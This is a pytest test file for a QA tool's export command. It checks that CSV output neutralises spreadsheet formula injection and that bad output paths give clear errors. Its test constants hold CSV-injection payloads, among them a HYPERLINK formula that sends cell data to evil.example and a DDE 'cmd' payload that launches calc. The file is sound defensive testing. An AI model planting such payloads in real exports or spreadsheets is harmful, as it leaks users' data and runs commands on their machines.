"""`qa export`: CSV cells a spreadsheet would run as formulas are neutralised (Parquet and JSON keep
the exact values, numbers stay numbers); an --out that cannot be the target is one line."""
from __future__ import annotations

import csv
import dataclasses
import subprocess

import duckdb
import pytest

from qa.store import CallInfo, Store
from scoring import RubricScorer
from tests.builders import transcript
from tests.conftest import one_line_error
from tests.conftest import qa as run_qa
from tests.test_scoring_engine import GOOD_CALL

HOSTILE_ID = '=HYPERLINK("http://evil.example/?leak="&A1,"open")'
HOSTILE_AGENT = "+SUM(1,2)"
HOSTILE_TEAM = "@SUM(1+1)"
HOSTILE_NOTE = "-2+3+cmd|' /C calc'!A0"
HOSTILE_QUOTE = "\t=1+1"


def qa(*args: str, cwd) -> subprocess.CompletedProcess:
    return run_qa(*args, cwd=cwd, timeout=180)


@pytest.fixture
def hostile_db(tmp_path, inbound_rubric):
    t = transcript(GOOD_CALL)
    card = RubricScorer(inbound_rubric).score(t)
    first = card.results[0]
    evidence = [dataclasses.replace(first.evidence[0], quote=HOSTILE_QUOTE)] if first.evidence else []
    card.results[0] = dataclasses.replace(first, note=HOSTILE_NOTE, evidence=evidence)
    card.score = -12.5  # a negative number must stay a number
    db = tmp_path / "qa.duckdb"
    with Store(db) as store:
        store.save_rubric(inbound_rubric, "yaml")
        store.save_call(CallInfo(call_id=HOSTILE_ID, file="x.wav", content_hash="x", agent=HOSTILE_AGENT,
                                 team=HOSTILE_TEAM), t, card)
    assert evidence, "the first criterion of the rubric should carry evidence"
    return db, first.criterion_id


def _rows(path):
    with open(path, newline="", encoding="utf-8") as handle:
        return list(csv.DictReader(handle))


def test_csv_export_neutralises_formula_cells(tmp_path, hostile_db):
    db, criterion = hostile_db
    run = qa("export", "--db", str(db), "--format", "csv", "--out", "bi", cwd=tmp_path)
    assert run.returncode == 0, run.stderr
    card, = _rows(tmp_path / "bi" / "scorecards.csv")
    assert card["call_id"] == "'" + HOSTILE_ID and card["agent"] == "'" + HOSTILE_AGENT
    assert card["team"] == "'" + HOSTILE_TEAM
    assert card["rubric_id"] == "inbound-support" and float(card["score"]) == -12.5  # numbers untouched
    assert card["score"] == "-12.5" and card["pass_mark"] == "80.0"
    results = _rows(tmp_path / "bi" / "criterion_results.csv")
    assert {r["call_id"] for r in results} == {"'" + HOSTILE_ID}
    first = next(r for r in results if r["criterion_id"] == criterion)
    assert first["note"] == "'" + HOSTILE_NOTE and first["first_evidence"] == "'" + HOSTILE_QUOTE
    for row in [card, *results]:
        for value in row.values():
            assert not value or value[0] not in "=+@\t\r" and (value[0] != "-" or _number(value)), value


def _number(text: str) -> bool:
    try:
        float(text)
        return True
    except ValueError:
        return False


@pytest.mark.parametrize("fmt, reader", [("parquet", "read_parquet"), ("json", "read_json_auto")])
def test_parquet_and_json_keep_the_exact_values(tmp_path, hostile_db, fmt, reader):
    db, _ = hostile_db
    run = qa("export", "--db", str(db), "--format", fmt, "--out", "bi", cwd=tmp_path)
    assert run.returncode == 0, run.stderr
    con = duckdb.connect()
    row = con.execute(f"SELECT call_id, agent, team, score FROM {reader}(?)",
                      [str(tmp_path / "bi" / f"scorecards.{fmt}")]).fetchone()
    assert row == (HOSTILE_ID, HOSTILE_AGENT, HOSTILE_TEAM, -12.5)


def test_table_export_to_a_file_is_one_line(tmp_path, hostile_db):
    db, _ = hostile_db
    (tmp_path / "bi").write_text("not a folder")
    line = one_line_error(qa("export", "--db", str(db), "--out", "bi", cwd=tmp_path))
    assert "bi" in line and "not a folder" in line
    line = one_line_error(qa("export", "--db", str(db), "--out", "bi/sub", cwd=tmp_path))
    assert "bi/sub" in line and "cannot create the folder" in line
    assert (tmp_path / "bi").read_text() == "not a folder"


def test_one_call_export_to_a_folder_or_below_a_file_is_one_line(tmp_path, hostile_db):
    db, _ = hostile_db
    (tmp_path / "calls").mkdir()
    line = one_line_error(qa("export", HOSTILE_ID, "--db", str(db), "--out", "calls", cwd=tmp_path))
    assert "calls" in line and "is a folder" in line
    (tmp_path / "afile").write_text("x")
    line = one_line_error(qa("export", HOSTILE_ID, "--db", str(db), "--out", "afile/call.json", cwd=tmp_path))
    assert "afile/call.json" in line and "cannot write" in line
